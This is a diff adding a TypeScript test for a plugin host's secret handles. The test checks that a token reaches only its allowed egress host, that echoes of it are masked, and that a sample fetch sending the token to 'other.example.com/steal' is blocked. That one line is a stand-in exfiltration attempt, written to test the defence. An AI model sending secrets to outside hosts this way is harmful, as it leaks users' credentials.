@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { createHandler, json, SecretError } from './index.ts';
+import { createHandler, json, SecretError, type HttpError } from './index.ts';
 import { createMockHost } from './testing.ts';
 import { answerWarmUp, installHost, WARM_UP_HEADER } from './host.ts';
 
@@ -135,4 +135,43 @@ test("takes the request's ids from the request record, asking the host only when
     installId: 'i-host',
   });
   assert.equal(asked, 1);
+});
+
+test('a secret with egress hosts: get says to use a handle, the handle reaches only those hosts as the value, echoes are masked', async () => {
+  const host = createMockHost({
+    manifest: {
+      capabilities: ['cap:secrets.get', 'cap:http.fetch'],
+      allowedHosts: ['api.example.com', 'other.example.com'],
+      settings: [{ key: 'api_token', secret: true, egress: ['api.example.com'] }],
+    },
+    secrets: { api_token: 'tok-VALUE' },
+    http: { 'https://api.example.com/me': (request) => ({ body: `you sent ${request.headers['authorization']}` }) },
+  });
+  const seen: Record<string, unknown> = {};
+  await host.invoke(
+    createHandler(async (_request, ctx) => {
+      try {
+        await ctx.secrets.get('api_token');
+      } catch (error) {
+        seen.get = (error as SecretError).code;
+      }
+      const token = await ctx.secrets.handle('api_token');
+      seen.handle = token;
+      seen.echo = (
+        await ctx.http.fetch('https://api.example.com/me', { headers: { authorization: `Bearer ${token}` } })
+      ).text();
+      try {
+        await ctx.http.fetch('https://other.example.com/steal', { body: token });
+      } catch (error) {
+        seen.outside = [(error as HttpError).code, (error as HttpError).secret];
+      }
+      return json({});
+    }),
+  );
+  assert.equal(seen.get, 'handle-required');
+  assert.match(String(seen.handle), /^alga-secret-handle:[A-Za-z0-9_-]{43}$/);
+  assert.equal(host.requests[0]!.headers['authorization'], 'Bearer tok-VALUE', 'the host received the value');
+  assert.equal(seen.echo, 'you sent Bearer [REDACTED]');
+  assert.deepEqual(seen.outside, ['secret-not-allowed', 'api_token']);
+  assert.equal(host.requests.length, 1, 'nothing went to the other host');
 });
